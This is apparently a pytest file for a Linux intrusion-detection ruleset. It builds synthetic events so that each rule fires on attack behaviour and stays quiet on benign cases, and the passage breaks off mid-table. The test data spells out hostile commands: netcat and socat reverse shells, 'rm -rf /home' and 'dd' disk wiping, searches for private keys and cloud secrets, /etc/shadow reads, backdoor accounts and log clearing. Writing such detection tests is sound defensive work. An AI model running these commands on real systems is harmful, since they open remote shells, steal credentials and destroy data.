"""The default ruleset: every rule fires on a real `qsc.common.v1.Event` showing the behaviour it
targets and stays quiet on a near miss or an allowed case (its exceptions)."""

from __future__ import annotations

import re
from collections.abc import Sequence

import pytest

from alpha.rules import RuleEngine, load_default, load_texts
from alpha.rules.loader import default_rule_files
from mesh.mitre import TECHNIQUES
from qsc.common.v1 import (
    auth_details_pb2 as auth,
)
from qsc.common.v1 import (
    classification_pb2 as cls,
)
from qsc.common.v1 import (
    event_pb2,
    file_details_pb2,
    kernel_details_pb2,
    memory_details_pb2,
    network_details_pb2,
    process_details_pb2,
)

Event = event_pb2.Event

# --- event builders ---------------------------------------------------------------------------


def ev(
    name: str = "bash",
    exe: str | None = None,
    args: Sequence[str] | None = None,
    *,
    uid: int = 1000,
    euid: int | None = None,
    tty: str = "",
    cwd: str = "/home/alice",
    container: str = "",
    cgroup: str = "/user.slice/user-1000.slice/session-1.scope",
    ancestors: Sequence[tuple[str, str]] = (("bash", "/usr/bin/bash"), ("sshd", "/usr/sbin/sshd")),
) -> Event:
    """An event whose acting process is `name`; add the detail afterwards."""
    e = Event(id="01900000-0000-7000-8000-000000000000", seq=1)
    e.guardian.host = "web-1"
    p = e.process
    p.pid, p.ppid = 4242, 4000
    p.uid, p.gid = uid, uid
    p.euid = uid if euid is None else euid
    p.egid = uid
    p.auid = 1000
    p.comm = name[:15]
    p.exe = exe if exe is not None else f"/usr/bin/{name}"
    p.args.extend(args if args is not None else [name])
    p.cwd = cwd
    p.tty = tty
    p.cgroup = cgroup
    p.container_id = container
    p.exec_id = "x1"
    for i, (comm, path) in enumerate(ancestors):
        p.ancestry.add(pid=4000 - i, comm=comm, exe=path, uid=uid)
    return e


def exec_(
    name: str, args: Sequence[str] | None = None, exe: str | None = None, **kw: object
) -> Event:
    e = ev(name, exe, args if args is not None else [name], **kw)  # type: ignore[arg-type]
    e.process_exec.filename = e.process.exe
    for stream in (e.process_exec.stdin, e.process_exec.stdout, e.process_exec.stderr):
        stream.kind = process_details_pb2.DESCRIPTOR_KIND_TTY
        stream.path = "/dev/pts/0"
    return e


def opened(
    path: str, name: str = "cat", *, write: bool = False, truncate: bool = False, **kw: object
) -> Event:
    e = ev(name, **kw)  # type: ignore[arg-type]
    fa = e.file_access
    fa.path = path
    fa.access = file_details_pb2.ACCESS_MODE_WRITE if write else file_details_pb2.ACCESS_MODE_READ
    fa.flags = (0o1 | (0o1000 if truncate else 0)) if write else 0
    fa.truncated = truncate
    fa.result = 3
    return e


def renamed(old: str, new: str, name: str = "mv", **kw: object) -> Event:
    e = ev(name, **kw)  # type: ignore[arg-type]
    e.file_rename.old_path, e.file_rename.new_path = old, new
    return e


def linked(target: str, path: str, name: str = "ln", symbolic: bool = True, **kw: object) -> Event:
    e = ev(name, **kw)  # type: ignore[arg-type]
    e.file_link.target, e.file_link.link_path, e.file_link.symbolic = target, path, symbolic
    return e


def deleted(path: str, name: str = "rm", **kw: object) -> Event:
    e = ev(name, **kw)  # type: ignore[arg-type]
    e.file_delete.path = path
    return e


def chmod(path: str, mode: int, name: str = "chmod", **kw: object) -> Event:
    e = ev(name, **kw)  # type: ignore[arg-type]
    pc = e.permission_change
    pc.path, pc.new_mode, pc.old_mode = path, mode, 0o755
    pc.setuid_added = bool(mode & 0o4000)
    pc.setgid_added = bool(mode & 0o2000)
    pc.world_writable = bool(mode & 0o002)
    return e


def ptrace(request: int, name: str = "evil", **kw: object) -> Event:
    e = ev(name, exe=f"/tmp/{name}", **kw)  # type: ignore[arg-type]
    e.ptrace.request = request  # type: ignore[assignment]
    e.ptrace.target.pid, e.ptrace.target.comm, e.ptrace.target.uid = 1234, "sshd", 0
    return e


def setuid(name: str, exe: str, old_uid: int = 1000, new_uid: int = 0) -> Event:
    e = ev(name, exe, uid=old_uid, euid=0)
    pc = e.privilege_change
    pc.call = process_details_pb2.PRIVILEGE_CALL_SETUID
    pc.old_credentials.uid, pc.old_credentials.euid = old_uid, 0
    pc.new_credentials.uid, pc.new_credentials.euid = new_uid, new_uid
    return e


def connect(
    name: str,
    raddr: str,
    rport: int,
    op: int = network_details_pb2.CONNECTION_OPERATION_CONNECT,
    **kw: object,
) -> Event:
    e = ev(name, **kw)  # type: ignore[arg-type]
    nc = e.network_connection
    nc.operation = op  # type: ignore[assignment]
    nc.family = network_details_pb2.ADDRESS_FAMILY_INET
    nc.protocol = network_details_pb2.TRANSPORT_PROTOCOL_TCP
    if op == network_details_pb2.CONNECTION_OPERATION_LISTEN:
        nc.local.address, nc.local.port = raddr, rport
    else:
        nc.local.address, nc.local.port = "10.0.0.5", 50000
        nc.remote.address, nc.remote.port = raddr, rport
    return e


def udp_connect(name: str, raddr: str, rport: int, result: int = 0, **kw: object) -> Event:
    e = connect(name, raddr, rport, **kw)  # type: ignore[arg-type]
    e.network_connection.protocol = network_details_pb2.TRANSPORT_PROTOCOL_UDP
    e.network_connection.result = result
    return e


def with_result(e: Event, result: int) -> Event:
    e.network_connection.result = result
    return e


def with_family(e: Event, family: int) -> Event:
    e.network_connection.family = family  # type: ignore[assignment]
    return e


def socket(family: int, name: str = "sniffer", exe: str | None = None) -> Event:
    e = ev(name, exe)
    e.socket_create.family = family  # type: ignore[assignment]
    e.socket_create.raw_family = 17
    e.socket_create.socket_type = 3
    e.socket_create.result = 4
    return e


def memory(kind: int, name: str = "payload", exe: str | None = None) -> Event:
    e = ev(name, exe)
    e.memory_threat.kind = kind  # type: ignore[assignment]
    e.memory_threat.trigger = memory_details_pb2.MEMORY_SCAN_TRIGGER_SYSCALL
    e.memory_threat.regions.add(start=0x7F0000000000, end=0x7F0000001000, permissions="rwxp")
    return e


def module(name: str = "insmod", exe: str = "/usr/sbin/insmod", pname: str = "bash") -> Event:
    e = ev(name, exe, uid=0, ancestors=((pname, f"/usr/bin/{pname}"),))
    e.module_load.call = kernel_details_pb2.MODULE_LOAD_CALL_FINIT_MODULE
    e.module_load.name, e.module_load.path = "rootkit", "/tmp/rootkit.ko"
    return e


def bpf(name: str, exe: str, prog_type: str) -> Event:
    e = ev(name, exe, uid=0)
    e.bpf_program_load.program_type = prog_type
    e.bpf_program_load.instruction_count = 42
    e.bpf_program_load.result = 7
    return e


def scan(direction: int, source: str = "") -> Event:
    e = ev("nmap", "/usr/bin/nmap")
    ps = e.port_scan
    ps.direction = direction  # type: ignore[assignment]
    ps.pattern = network_details_pb2.SCAN_PATTERN_VERTICAL
    ps.source_address = source
    ps.distinct_ports, ps.distinct_hosts, ps.attempts = 900, 1, 950
    ps.window.seconds = 10
    return e


def transfer(nbytes: int, name: str = "curl", raddr: str = "203.0.113.9") -> Event:
    e = ev(name)
    tv = e.transfer_volume
    tv.direction = network_details_pb2.TRAFFIC_DIRECTION_OUTBOUND
    tv.bytes, tv.threshold_bytes, tv.connections = nbytes, 50 * 2**20, 1
    tv.window.seconds = 60
    tv.top_remote.address, tv.top_remote.port, tv.top_remote_bytes = raddr, 443, nbytes
    return e


def login(
    outcome: int,
    *,
    failures: int = 1,
    users: int = 1,
    new_source: bool = False,
    source: str = "198.51.100.7",
    user_failures: int = 0,
    user_sources: int = 0,
) -> Event:
    e = Event(id="01900000-0000-7000-8000-000000000001", seq=2)
    a = e.auth_event
    a.service, a.outcome, a.method, a.user = "sshd", outcome, auth.AUTH_METHOD_PASSWORD, "root"  # type: ignore[assignment]
    a.source.address, a.source.port = source, 51234
    a.failures_in_window, a.distinct_users_in_window = failures, users
    a.user_failures_in_window, a.user_distinct_sources_in_window = user_failures, user_sources
    a.window.seconds = 60
    a.new_source_address = new_source
    return e


def stdio_socket(e: Event) -> Event:
    for stream in (e.process_exec.stdin, e.process_exec.stdout, e.process_exec.stderr):
        stream.kind = process_details_pb2.DESCRIPTOR_KIND_INET_SOCKET
        stream.path = ""
        stream.peer.address, stream.peer.port = "203.0.113.66", 4444
    return e


def with_exec_flag(e: Event, **flags: bool) -> Event:
    for k, v in flags.items():
        setattr(e.process_exec, k, v)
    return e


PT = process_details_pb2
MT = memory_details_pb2
NT = network_details_pb2
OK = auth.AUTH_OUTCOME_ACCEPTED
FAIL = auth.AUTH_OUTCOME_FAILED


def vm_write(name: str = "inject", exe: str = "/tmp/inject", **kw: object) -> Event:
    e = ev(name, exe, **kw)  # type: ignore[arg-type]
    e.process_memory_write.target.pid = 1234
    e.process_memory_write.target.comm = "sshd"
    e.process_memory_write.result = 64
    return e


def xattr(
    path: str, attr: str = "security.capability", name: str = "setcap", **kw: object
) -> Event:
    e = ev(name, f"/usr/sbin/{name}", **kw)  # type: ignore[arg-type]
    e.file_attribute_change.path = path
    e.file_attribute_change.name = attr
    e.file_attribute_change.value_size = 20
    return e


def namespace(
    call: int, types: Sequence[str], name: str = "unshare", exe: str = "", **kw: object
) -> Event:
    e = ev(name, exe or f"/usr/bin/{name}", **kw)  # type: ignore[arg-type]
    e.namespace_change.call = call  # type: ignore[assignment]
    e.namespace_change.namespaces.extend(types)
    return e


def backdated(path: str, seconds: int, name: str = "touch", **kw: object) -> Event:
    e = ev(name, **kw)  # type: ignore[arg-type]
    e.file_timestamp_change.path = path
    e.file_timestamp_change.modification_time.FromSeconds(1_700_000_000 - seconds)
    e.file_timestamp_change.backdated_seconds = seconds
    return e


NS = process_details_pb2
YEAR = 365 * 86400


def created(path: str, name: str = "touch", **kw: object) -> Event:
    e = opened(path, name, write=True, **kw)  # type: ignore[arg-type]
    e.file_access.flags = 0o1 | 0o100  # O_WRONLY | O_CREAT
    return e


def capable(caps: Sequence[str], everything: bool = False, **kw: object) -> Event:
    e = exec_("nginx", container=CID, ancestors=RUNTIME, **kw)  # type: ignore[arg-type]
    e.process_exec.effective_capabilities.extend(caps)
    e.process_exec.all_capabilities = everything
    return e


def killed(check: str = "memfd_exec", dry_run: bool = False) -> Event:
    e = ev("memfd:x", "/memfd:x (deleted)")
    e.enforcement.action = NS.ENFORCEMENT_ACTION_KILL
    e.enforcement.check = check
    e.enforcement.dry_run = dry_run
    e.enforcement.rule_ids.append("alpha.memfd_exec")
    return e


DPKG = (("dpkg", "/usr/bin/dpkg"), ("apt-get", "/usr/bin/apt-get"))
CID = "a" * 64
RUNTIME = (("containerd-shim", "/usr/bin/containerd-shim-runc-v2"), ("systemd", "/sbin/init"))


def _setuid_without_root_power() -> Event:
    """A setuid-to-self by an ordinary process: it has no root effective uid to switch with."""
    e = setuid("app", "/opt/app/bin/app", new_uid=1000)
    e.process.euid = 1000
    e.privilege_change.old_credentials.euid = 1000
    return e


def logged_in(e: Event, auid: int) -> Event:
    """`e` in a session whose login uid is `auid`."""
    e.process.auid = auid
    return e


SSHD = (("sshd-session", "/usr/lib/openssh/sshd-session"), ("sshd", "/usr/sbin/sshd"))
POSTGRES = (("postgres", "/usr/lib/postgresql/15/bin/postgres"), ("systemd", "/sbin/init"))

# rule id -> (events that must fire it, events that must not)
CASES: dict[str, tuple[list[Event], list[Event]]] = {
    "alpha.memfd_exec": (
        [
            with_exec_flag(exec_("x", exe="/memfd:payload (deleted)"), exe_memfd=True),
            memory(MT.MEMORY_THREAT_KIND_MEMFD_EXECUTABLE, exe="/memfd: (deleted)"),
        ],
        [
            exec_("ls"),
            # runc re-executing itself from a memfd, started by a system program
            exec_(
                "runc",
                exe="/memfd:runc_cloned:/proc/self/exe (deleted)",
                ancestors=(("containerd-shim", "/usr/bin/containerd-shim-runc-v2"),),
            ),
        ],
    ),
    "alpha.exec_from_dev_shm": (
        [exec_("x", exe="/dev/shm/x"), exec_("bash", ["bash", "/dev/shm/run.sh"])],
        [exec_("ls", ["ls", "/dev/shm"]), exec_("x", exe="/dev/shm/x", ancestors=DPKG)],
    ),
    "alpha.exec_from_tmp": (
        [exec_("x", exe="/tmp/x"), exec_("miner", exe="/var/tmp/.cache/miner")],
        [exec_("pkg.test", exe="/tmp/go-build123/b001/pkg.test"), exec_("ls")],
    ),
    "alpha.reverse_shell": (
        [stdio_socket(exec_("bash", ["bash", "-i"])), stdio_socket(exec_("python3"))],
        [
            exec_("bash", ["bash", "-i"]),
            stdio_socket(exec_("sh", ancestors=(("xinetd", "/usr/sbin/xinetd"),))),
            stdio_socket(exec_("nginx", exe="/usr/sbin/nginx")),
        ],
    ),
    "alpha.netcat_remote_exec": (
        [
            exec_("nc", ["nc", "-e", "/bin/sh", "203.0.113.66", "4444"]),
            exec_("ncat", ["ncat", "--sh-exec", "bash", "203.0.113.66", "4444"]),
            exec_("socat", ["socat", "TCP:203.0.113.66:4444", "EXEC:/bin/bash"]),
        ],
        [exec_("nc", ["nc", "-zv", "db", "5432"]), exec_("socat", ["socat", "-", "TCP:db:5432"])],
    ),
    "alpha.shell_by_server": (
        [
            exec_(
                "sh",
                ["sh", "-c", "id"],
                ancestors=(("php-fpm", "/usr/sbin/php-fpm"), ("nginx", "/usr/sbin/nginx")),
            )
        ],
        [
            exec_("sh", ["sh", "-c", "id"]),
            exec_(
                "sh",
                ["sh", "-c", "/usr/bin/rotatelogs /var/log/x 86400"],
                ancestors=(("apache2", "/usr/sbin/apache2"),),
            ),
        ],
    ),
    "alpha.system_user_interactive": (
        [
            exec_("bash", uid=33, tty="pts/1"),
            exec_("sh", uid=65534, tty="pts/1"),  # nobody
            # logged in over SSH as a system account: a command without a terminal
            logged_in(exec_("bash", ["bash", "-c", "id"], uid=33, tty="", ancestors=SSHD), 33),
            logged_in(exec_("python3", uid=65534, tty="", ancestors=(("bash", ""), *SSHD)), 65534),
            # a Git account's service name does not cover a command list
            logged_in(
                exec_("sh", ["sh", "-c", "gitea serv key-1; id"], uid=998, tty="", ancestors=SSHD),
                998,
            ),
        ],
        [
            exec_("bash", uid=33, ancestors=(("cron", "/usr/sbin/cron"),)),  # no terminal
            exec_("bash", uid=1000, tty="pts/1"),
            exec_("bash", uid=0, tty="pts/1"),
            # `sudo -u postgres psql` in alice's SSH session: her login uid
            exec_("psql", uid=105, ancestors=(("sudo", "/usr/bin/sudo"), *SSHD)),
            logged_in(exec_("sshd-auth", uid=101, tty="", ancestors=SSHD), 101),
            # Git hosting and SFTP accounts over SSH
            logged_in(exec_("git-upload-pack", uid=998, tty="", ancestors=SSHD), 998),
            logged_in(
                exec_(
                    "sh",
                    ["sh", "-c", "/usr/local/bin/gitea --config=/etc/gitea/app.ini serv key-1"],
                    uid=998,
                    tty="",
                    ancestors=SSHD,
                ),
                998,
            ),
            logged_in(exec_("sftp-server", uid=34, tty="", ancestors=SSHD), 34),
        ],
    ),
    "alpha.container_terminal_shell": (
        [exec_("sh", container=CID, tty="pts/0")],
        [exec_("sh", tty="pts/0"), exec_("sh", container=CID)],
    ),
    "alpha.container_drop_and_exec": (
        [
            with_exec_flag(
                exec_("xmrig", exe="/usr/local/bin/xmrig", container=CID), exe_upper_layer=True
            )
        ],
        [exec_("nginx", container=CID), with_exec_flag(exec_("make"), exe_upper_layer=True)],
    ),
    "alpha.pkexec_empty_argv": (
        [exec_("pkexec", [])],
        [exec_("pkexec", ["pkexec", "systemctl", "restart", "nginx"])],
    ),
    "alpha.private_key_search": (
        [
            exec_("find", ["find", "/", "-name", "id_rsa"]),
            exec_("grep", ["grep", "-r", "BEGIN OPENSSH PRIVATE KEY", "/home"]),
            exec_("find", ["find", "/", "-name", "*.pem"]),
            exec_("grep", ["grep", "-rl", "BEGIN PRIVATE KEY", "/"]),  # PKCS#8
            exec_("rg", ["rg", "-l", "BEGIN ENCRYPTED PRIVATE KEY", "/srv"]),
        ],
        [
            exec_("find", ["find", ".", "-name", "*.py"]),
            exec_(
                "find",
                ["find", "/etc/ssl/certs", "-name", "*.pem"],
                ancestors=(("update-ca-certi", "/usr/sbin/update-ca-certificates"),),
            ),
        ],
    ),
    "alpha.cloud_credentials_search": (
        [
            exec_("grep", ["grep", "-ri", "aws_secret_access_key", "/"]),
            exec_("find", ["find", "/home", "-path", "*/.aws/credentials"]),
            exec_("grep", ["grep", "-r", "AccessKeyId", "/var/www"]),  # JSON, SDK configs
            exec_("grep", ["grep", "-ri", "secretaccesskey", "/home"]),
        ],
        [
            exec_("grep", ["grep", "-ri", "password", "app.log"]),
            exec_("jq", ["jq", "-r", ".Credentials.AccessKeyId", "creds.json"]),  # no search
        ],
    ),
    "alpha.bulk_data_removal": (
        [
            exec_("rm", ["rm", "-rf", "/home"]),
            exec_("rm", ["rm", "-fr", *[f"/srv/data/{i}" for i in range(60)]]),
            exec_("shred", ["shred", "-u", "/var/log/auth.log"]),
            exec_("dd", ["dd", "if=/dev/zero", "of=/dev/sda", "bs=1M"]),
        ],
        [
            exec_("rm", ["rm", "-rf", "/home/alice/build"]),
            exec_("rm", ["rm", "/home", "--preserve-root"]),
            exec_("dd", ["dd", "if=/dev/sda", "of=/backup/disk.img"]),
            exec_("mkfs.ext4", ["mkfs.ext4", "/dev/loop0"], ancestors=DPKG),
        ],
    ),
    "alpha.local_account_created": (
        [exec_("useradd", ["useradd", "-m", "backdoor"], uid=0)],
        [exec_("useradd", ["useradd", "--system", "_chrony"], uid=0, ancestors=DPKG), exec_("id")],
    ),
    "alpha.user_added_to_admin_group": (
        [exec_("usermod", ["usermod", "-aG", "docker", "mallory"], uid=0)],
        [exec_("usermod", ["usermod", "-aG", "audio", "alice"], uid=0)],
    ),
    "alpha.user_mgmt_binaries": (
        [
            exec_("passwd", ["passwd", "www-data"], uid=0),
            exec_("chpasswd", ["chpasswd"], uid=0),
            exec_("chage", ["chage", "-M", "99999", "postgres"], uid=0),
            exec_("userdel", ["userdel", "-r", "alice"], uid=0),
            exec_("chsh", ["chsh", "-s", "/bin/bash", "www-data"], uid=0),
            exec_("groupadd", ["groupadd", "ops"], uid=0),
            exec_("vipw", ["vipw"], uid=0),
            exec_("usermod", ["usermod", "-s", "/bin/bash", "nobody"], uid=0),
        ],
        [
            exec_("useradd", ["useradd", "-m", "backdoor"], uid=0),  # account creation's rule
            exec_("usermod", ["usermod", "-aG", "sudo", "mallory"], uid=0),  # admin group's
            exec_("passwd", ["passwd", "-S", "alice"]),  # status query
            exec_("chage", ["chage", "-l", "alice"]),
            exec_("pwck", ["pwck", "-r"], uid=0),
            exec_("passwd", ["passwd", "--help"]),
            exec_("groupadd", ["groupadd", "-r", "_chrony"], uid=0, ancestors=DPKG),
            exec_("passwd", ["passwd", "-l", "ubuntu"], uid=0, ancestors=(("cloud-init", ""),)),
            exec_("id", ["id", "alice"]),
        ],
    ),
    "alpha.deleted_executable": (
        [
            with_exec_flag(exec_("x", exe="/tmp/x (deleted)"), exe_deleted=True),
            memory(MT.MEMORY_THREAT_KIND_DELETED_EXECUTABLE, exe="/dev/shm/kworker (deleted)"),
        ],
        [
            exec_("x"),
            memory(MT.MEMORY_THREAT_KIND_DELETED_EXECUTABLE, exe="/usr/sbin/nginx (deleted)"),
        ],
    ),
    "alpha.sensitive_file_read": (
        [
            opened("/etc/shadow", "cat"),
            opened("/etc/sudoers.d/90-cloud", "python3"),
            opened("/etc/ssh/ssh_host_ed25519_key", "cat"),
            # a copy of sshd dropped in /tmp is not sshd
            opened("/etc/shadow", "sshd", exe="/tmp/sshd"),
        ],
        [
            opened("/etc/shadow", "sshd", exe="/usr/sbin/sshd"),
            opened("/etc/shadow", "unix_chkpwd", exe="/usr/sbin/unix_chkpwd"),
            opened("/etc/ssh/ssh_host_ed25519_key.pub", "cat"),
            opened("/etc/passwd", "cat"),
        ],
    ),
    "alpha.write_below_etc": (
        [
            opened("/etc/hosts", "vim", write=True),
            renamed("/tmp/x", "/etc/resolv.conf", "mv"),
            linked("/tmp/evil.so", "/etc/ld.so.conf.d/evil.conf"),
        ],
        [
            opened("/etc/hosts", "cat"),
            opened("/etc/passwd", "useradd", write=True, uid=0),
            opened("/etc/resolv.conf.tmp", "NetworkManager", write=True),
            opened("/etc/hosts", "python3", write=True, cgroup="/system.slice/qsc-beta.service"),
            opened("/etc/nginx/nginx.conf", "dpkg", write=True, exe="/usr/bin/dpkg"),
            # left to their own rules
            opened("/etc/sudoers", "vim", write=True),
            opened("/etc/cron.d/job", "vim", write=True),
        ],
    ),
    "alpha.write_below_binary_dir": (
        [
            opened("/usr/bin/ls", "cp", write=True),
            renamed("/tmp/libx.so", "/lib/x86_64-linux-gnu/libpam.so.0"),
            opened("/boot/vmlinuz-6.1.0", "dd", write=True),
        ],
        [
            opened("/usr/bin/ls", "dpkg", write=True, exe="/usr/bin/dpkg"),
            linked(
                "libz.so.1.2.13",
                "/usr/lib/x86_64-linux-gnu/libz.so.1",
                "ldconfig",
                exe="/sbin/ldconfig",
            ),
            opened(
                "/usr/lib/python3/dist-packages/x/__pycache__/y.cpython-311.pyc",
                "python3",
                write=True,
            ),
            opened("/usr/lib/systemd/system/evil.service", "cp", write=True),  # the systemd rule's
            opened("/usr/local/lib/app.so", "cp", write=True),
        ],
    ),
    "alpha.cron_job_scheduled": (
        [
            opened("/etc/cron.d/backdoor", "tee", write=True),
            opened("/var/spool/cron/crontabs/alice", "crontab", write=True),
        ],
        [
            opened("/etc/cron.d/backdoor", "cat"),
            opened("/etc/cron.d/php", "dpkg", write=True, exe="/usr/bin/dpkg"),
        ],
    ),
    "alpha.ssh_authorized_keys_modified": (
        [
            opened("/root/.ssh/authorized_keys", "bash", write=True),
            renamed("/tmp/k", "/home/alice/.ssh/authorized_keys2"),
        ],
        [
            opened("/root/.ssh/authorized_keys", "sshd", exe="/usr/sbin/sshd"),
            opened(
                "/home/ubuntu/.ssh/authorized_keys",
                "cloud-init",
                write=True,
                exe="/usr/bin/python3",
            ),
        ],
    ),
    "alpha.log_clearing": (
        [
            opened("/var/log/auth.log", "bash", write=True, truncate=True),
            deleted("/var/log/wtmp"),
            renamed("/var/log/secure", "/tmp/x"),
            linked("/dev/null", "/var/log/lastlog"),
        ],
        [
            opened("/var/log/auth.log", "rsyslogd", write=True, exe="/usr/sbin/rsyslogd"),
            opened(
                "/var/log/syslog", "logrotate", write=True, truncate=True, exe="/usr/sbin/logrotate"
            ),
            renamed("/var/log/auth.log", "/var/log/auth.log.1"),
            deleted("/var/log/syslog.7.gz", "logrotate", exe="/usr/sbin/logrotate"),
        ],
    ),
    "alpha.setuid_bit_set": (
        [chmod("/tmp/rootsh", 0o4755), chmod("/home/alice/x", 0o2755)],
        [chmod("/tmp/rootsh", 0o755), chmod("/usr/bin/passwd", 0o4755, ancestors=DPKG)],
    ),
    "alpha.world_writable_system_file": (
        [chmod("/etc/passwd", 0o666), chmod("/usr/bin/sudo", 0o777)],
        [chmod("/tmp/share", 0o777), chmod("/etc/passwd", 0o644)],
    ),
    "alpha.sensitive_file_link": (
        [
            linked("/etc/shadow", "/tmp/s"),
            linked("/etc/sudoers", "/tmp/h", symbolic=False),
            linked("../../etc/shadow", "/var/www/x"),
            linked("/root", "/tmp/r"),
        ],
        [linked("/etc/hosts", "/tmp/h"), linked("/usr/share/zoneinfo/UTC", "/etc/localtime")],
    ),
    "alpha.shell_history_cleared": (
        [
            deleted("/home/alice/.bash_history"),
            opened("/root/.zsh_history", "truncate", write=True, truncate=True),
            linked("/dev/null", "/root/.bash_history"),
            renamed("/home/alice/.bash_history", "/tmp/x"),
            renamed("/root/.local/share/fish/fish_history", "/root/.local/share/fish/h.bak"),
            renamed(".zsh_history", "/dev/shm/.z", "python3"),
        ],
        [
            opened("/home/alice/.bash_history", "bash", write=True, truncate=True),
            deleted("/home/alice/notes.txt"),
            # saving through a temporary file renamed over the history (readline 8, zsh, fish)
            renamed("/home/alice/.bash_history-01234", "/home/alice/.bash_history", "bash"),
            renamed("/home/alice/.zsh_history.new", "/home/alice/.zsh_history", "zsh"),
            # readline 7's backup: the commands are still there
            renamed("/home/alice/.bash_history", "/home/alice/.bash_history-", "bash"),
            renamed("/home/alice/notes", "/tmp/x"),
        ],
    ),
    "alpha.sudoers_modified": (
        [
            opened("/etc/sudoers.d/99-backdoor", "tee", write=True),
            renamed("/etc/sudoers.tmp", "/etc/sudoers", "visudo"),
        ],
        [
            opened("/etc/sudoers", "sudo", exe="/usr/bin/sudo"),
            opened("/etc/sudoers.d/x", "dpkg", write=True, exe="/usr/bin/dpkg"),
        ],
    ),
    "alpha.systemd_unit_modified": (
        [
            opened("/etc/systemd/system/backdoor.service", "tee", write=True),
            linked(
                "/etc/systemd/system/x.timer",
                "/etc/systemd/system/timers.target.wants/x.timer",
                "systemctl",
            ),
            opened("/home/alice/.config/systemd/user/agent.service", "cp", write=True),
        ],
        [
            opened("/etc/systemd/system/nginx.service.d/override.conf", "vim", write=True),
            opened("/lib/systemd/system/ssh.service", "dpkg", write=True, exe="/usr/bin/dpkg"),
        ],
    ),
    "alpha.shell_config_modified": (
        [
            opened("/home/alice/.bashrc", "sh", write=True),
            opened("/etc/profile.d/x.sh", "tee", write=True),
        ],
        [
            opened("/home/alice/.bashrc", "bash"),
            opened("/etc/profile", "dpkg", write=True, exe="/usr/bin/dpkg"),
        ],
    ),
    "alpha.ld_so_preload_modified": (
        [opened("/etc/ld.so.preload", "tee", write=True)],
        [opened("/etc/ld.so.preload", "ls"), opened("/etc/ld.so.conf", "tee", write=True)],
    ),
    "alpha.container_escape_hook": (
        [
            opened("/sys/fs/cgroup/rdma/x/release_agent", "sh", write=True, container=CID),
            opened("/proc/sys/kernel/core_pattern", "sh", write=True, container=CID),
        ],
        [
            opened(
                "/proc/sys/kernel/core_pattern",
                "systemd-sysctl",
                write=True,
                exe="/usr/lib/systemd/systemd-sysctl",
            ),
            opened("/sys/fs/cgroup/x/release_agent", "cat"),
        ],
    ),
    "alpha.dev_file_created": (
        [created("/dev/.hidden"), created("/dev/sdz", name="evil")],
        [
            created("/dev/shm/x"),  # its own rules
            created("/dev/stdout", name="tee"),
            created("/dev/.udev", name="systemd-udevd", exe="/usr/lib/systemd/systemd-udevd"),
            opened("/dev/.hidden", "cat"),  # a read
        ],
    ),
    "alpha.environ_read": (
        [opened("/proc/1/environ", "cat"), opened("/proc/4000/environ", "python3")],
        [opened("/proc/self/environ", "cat"), opened("/proc/1/environ", "ps", exe="/usr/bin/ps")],
    ),
    "alpha.ssh_information_read": (
        [opened("/home/alice/.ssh/id_ed25519", "cat"), opened("/root/.ssh/known_hosts", "grep")],
        [
            opened("/home/alice/.ssh/id_ed25519", "ssh", exe="/usr/bin/ssh"),
            opened("/home/alice/.bashrc", "cat"),
        ],
    ),
    "alpha.privileged_container": (
        [capable(["CAP_SYS_ADMIN", "CAP_NET_ADMIN"], everything=True)],
        [
            capable(["CAP_CHOWN", "CAP_NET_BIND_SERVICE"]),
            exec_("nginx", ancestors=RUNTIME),  # no container
        ],
    ),
    "alpha.capable_container": (
        [capable(["CAP_CHOWN", "CAP_SYS_PTRACE"]), capable(["CAP_NET_ADMIN"])],
        [
            capable(["CAP_CHOWN", "CAP_NET_BIND_SERVICE", "CAP_KILL"]),  # Docker's defaults
            capable(["CAP_SYS_ADMIN"], everything=True),  # privileged: its own rule
        ],
    ),
    "alpha.process_killed": (
        [killed(), killed("socket_stdio_exec", dry_run=True)],
        [vm_write()],
    ),
    "alpha.process_memory_write": (
        [vm_write(), opened("/proc/1234/mem", "inject", write=True)],
        [
            opened("/proc/1234/mem", "cat"),  # read, not write
            opened("/proc/self/mem", "jit", write=True),
            vm_write("gdb", "/usr/bin/gdb", tty="pts/0"),
        ],
    ),
    "alpha.file_capabilities_set": (
        [xattr("/tmp/python3"), xattr("/usr/bin/python3", name="evil")],
        [
            xattr("/tmp/python3", attr="security.selinux"),
            xattr("/usr/bin/ping", ancestors=DPKG),
        ],
    ),
    "alpha.namespace_change": (
        [
            namespace(NS.NAMESPACE_CALL_UNSHARE, ["user", "mnt"]),
            namespace(NS.NAMESPACE_CALL_SETNS, ["mnt"], name="nsenter"),
            namespace(NS.NAMESPACE_CALL_CLONE, ["pid"], name="escape", exe="/tmp/escape"),
            namespace(NS.NAMESPACE_CALL_UNSHARE, ["net"], name="runc", exe="/tmp/runc"),
        ],
        [
            namespace(NS.NAMESPACE_CALL_UNSHARE, ["net"], name="runc", exe="/usr/bin/runc"),
            namespace(
                NS.NAMESPACE_CALL_UNSHARE, ["mnt"], name="systemd", exe="/usr/lib/systemd/systemd"
            ),
            namespace(
                NS.NAMESPACE_CALL_CLONE,
                ["pid"],
                name="runc:[2:INIT]",
                ancestors=(("runc", "/usr/bin/runc"),),
            ),
        ],
    ),
    "alpha.userns_mapping": (
        [
            opened("/proc/4242/uid_map", "unshare", write=True),
            opened("/proc/self/gid_map", "evil", write=True),
        ],
        [
            opened("/proc/4242/uid_map", "cat"),
            opened("/proc/4242/uid_map", "newuidmap", write=True, exe="/usr/bin/newuidmap"),
        ],
    ),
    "alpha.timestomp": (
        [backdated("/usr/local/bin/backdoor", YEAR), backdated("/etc/cron.d/job", 2 * 86400)],
        [
            backdated("/tmp/file", YEAR),
            backdated("/usr/bin/ls", 3600),
            backdated("/usr/bin/ls", YEAR, name="dpkg", ancestors=DPKG),
        ],
    ),
    "alpha.ptrace_attach": (
        [ptrace(PT.PTRACE_REQUEST_ATTACH), ptrace(PT.PTRACE_REQUEST_POKE_MEMORY)],
        [
            ptrace(PT.PTRACE_REQUEST_OTHER),
            ptrace(PT.PTRACE_REQUEST_TRACEME),
        ],
    ),
    "alpha.ptrace_traceme": (
        [ptrace(PT.PTRACE_REQUEST_TRACEME)],
        [
            ptrace(PT.PTRACE_REQUEST_TRACEME, ancestors=(("gdb", "/usr/bin/gdb"),)),
            ptrace(PT.PTRACE_REQUEST_ATTACH),
        ],
    ),
    "alpha.non_sudo_setuid": (
        [setuid("exploit", "/tmp/exploit"), setuid("sudo", "/tmp/sudo")],
        [
            setuid("sudo", "/usr/bin/sudo"),
            setuid("su", "/bin/su"),
            setuid("exploit", "/tmp/exploit", old_uid=0),
            setuid("app", "/opt/app/bin/app", new_uid=1001),
        ],
    ),
    "alpha.non_sudo_setuid_other_user": (
